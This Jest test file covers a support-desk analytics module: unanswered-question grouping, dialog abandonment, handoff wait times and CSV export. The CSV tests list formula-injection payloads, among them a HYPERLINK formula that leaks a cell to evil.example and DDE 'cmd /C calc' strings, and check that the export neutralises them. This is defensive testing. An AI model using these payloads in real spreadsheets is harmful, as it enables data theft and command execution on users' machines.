import { beforeAll, describe, expect, it } from '@jest/globals';

import { csvOf } from '../../../../src/channels/desk/insights/csv.js';
import { insightsOf } from '../../../../src/channels/desk/insights/insights.js';
import type { DeskParts } from '../../../../src/channels/desk/parts.js';
import type { Effect } from '../../../../src/model/conversation.js';
import type { DeskHandoff } from '../../../../src/model/desk.js';
import type { DeskInsights } from '../../../../src/model/desk-insights.js';
import type { StoredEffect } from '../../../../src/storage/records.js';
import { deskParts } from '../support.js';

let parts: DeskParts;
beforeAll(async () => {
  parts = await deskParts();
}, 60_000);

const at = (time: string): string => `2026-06-20T${time}:00.000Z`;

function effect(body: Effect, conversation = 'one', moment = at('09:00')): StoredEffect {
  return { conversation, store: 'sonoff', at: moment, body };
}

function abstained(text: string, store: string | null = 'sonoff'): StoredEffect {
  return { ...effect({ kind: 'abstained', store, text, nearest: [] }), store };
}

function insights(effects: readonly StoredEffect[], handoffs: readonly DeskHandoff[] = []): DeskInsights {
  return insightsOf(parts, {
    effects,
    handoffs,
    from: '2026-06-19',
    to: '2026-06-20',
    store: null,
    now: at('12:00'),
  });
}

/** The rows of a table as a spreadsheet reads them: RFC 4180. */
function rowsOf(csv: string): string[][] {
  return csv
    .trimEnd()
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
      ),
    );
}

describe('questions that no clause answered', () => {
  it('are grouped by likeness, the largest group first, told by the one most like the others', () => {
    const { gaps } = insights([
      abstained('Do you sponsor football clubs?'),
      abstained('Can I pay with bitcoin?'),
      abstained('can i pay with Bitcoin or ether'),
      abstained('paying with bitcoin?'),
    ]);
    expect(gaps.map(({ count }) => count)).toEqual([3, 1]);
    expect(gaps[0]!.text.toLowerCase()).toContain('bitcoin');
    expect(gaps[0]!.examples).toHaveLength(3);
    expect(gaps[1]!.text).toBe('Do you sponsor football clubs?');
  });

  it('of two shops are never one group', () => {
    const { gaps } = insights([
      abstained('Can I pay with bitcoin?'),
      abstained('Can I pay with bitcoin?', 'aqara'),
    ]);
    expect(gaps.map(({ store, count }) => [store, count])).toEqual([
      ['sonoff', 1],
      ['aqara', 1],
    ]);
  });

  it('name the nearest clauses of their shop, and why none answered', () => {
    const { gaps } = insights([abstained('zxqv blorp'), abstained('refund for the return of a gift')]);
    const [far, near] = ['zxqv', 'refund'].map((word) => gaps.find(({ text }) => text.includes(word))!);
    expect(far!.cause).toBe('not_in_policy');
    expect(near!.cause).not.toBe('not_in_policy');
    for (const { clause, url } of near!.nearest) {
      expect(clause).toMatch(/^sonoff\//);
      expect(url).toBe(`/policies/${clause.replace('/', '#')}`);
    }
  });
});

describe('questions at which a dialog is left', () => {
  const asked = (fact: string, conversation: string, moment: string): StoredEffect =>
    effect({ kind: 'asked', fact }, conversation, moment);

  it('are those after which nothing came for half an hour', () => {
    const { left } = insights([
      asked('condition', 'gone', at('09:00')),
      asked('deliveryDate', 'gone', at('09:01')),
      asked('condition', 'answered', at('09:00')),
      effect({ kind: 'feedback', helpful: true }, 'answered', at('09:02')),
      asked('condition', 'here still', at('11:45')),
    ]);
    expect(left.map(({ fact, left: gone, asked: all }) => [fact, gone, all])).toEqual([
      ['deliveryDate', 1, 1],
      ['condition', 0, 3],
    ]);
    expect(left[0]!.label).not.toBe('deliveryDate');
  });

  it('are none where a person was called', () => {
    const handoff = {
      conversation: 'handed',
      at: at('09:05'),
      joinedAt: null,
      status: 'waiting',
    } as DeskHandoff;
    const { left } = insights([asked('condition', 'handed', at('09:00'))], [handoff]);
    expect(left).toMatchObject([{ fact: 'condition', left: 0, asked: 1 }]);
  });
});

describe('handoffs', () => {
  it('tell how long customers waited, those still waiting apart', () => {
    const waited = (joinedAt: string | null): DeskHandoff =>
      ({
        conversation: 'x',
        at: at('09:00'),
        joinedAt,
        status: joinedAt === null ? 'waiting' : 'done',
      }) as DeskHandoff;
    const { handoffs } = insights(
      [],
      [waited(at('09:01')), waited(at('09:03')), waited(null), waited(at('09:10'))],
    );
    expect(handoffs).toEqual({ count: 4, waiting: 1, medianWait: 180, longestWait: 600 });
    expect(insights([]).handoffs).toEqual({ count: 0, waiting: 0, medianWait: null, longestWait: null });
  });
});

describe('the table for spreadsheets', () => {
  it.each([
    '=HYPERLINK("https://evil.example?x="&A1,"refund")',
    '+1+1',
    '-2+3+cmd|’ /C calc’!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+1',
    '  =1+1',
    '\n=1+1',
    '＝1+1',
  ])('holds what a customer wrote as text, never as a formula: %j', (text) => {
    const row = rowsOf(csvOf(insights([abstained(text)]))).find(([what]) => what === 'gap')!;
    expect(row[1]!.startsWith("'")).toBe(true);
  });

  it('holds each number once, commas, quotes and line ends within their cells', () => {
    const text = 'Do you "ship", say,\nto Mars?';
    const csv = csvOf(insights([abstained(text), effect({ kind: 'feedback', helpful: false })]));
    expect(csv).toContain('"Do you ""ship"", say,\nto Mars?",1,');
    const rows = rowsOf(csv.replace('\nto', ' to'));
    expect(rows[0]).toEqual(['what', 'which', 'count', 'more']);
    expect(rows.filter(([what]) => what === 'not answered')).toEqual([
      ['not answered', '2026-06-19', '0', ''],
      ['not answered', '2026-06-20', '1', ''],
    ]);
    expect(rows).toContainEqual(['feedback', 'not helpful', '1', '']);
    expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([4]));
  });
});
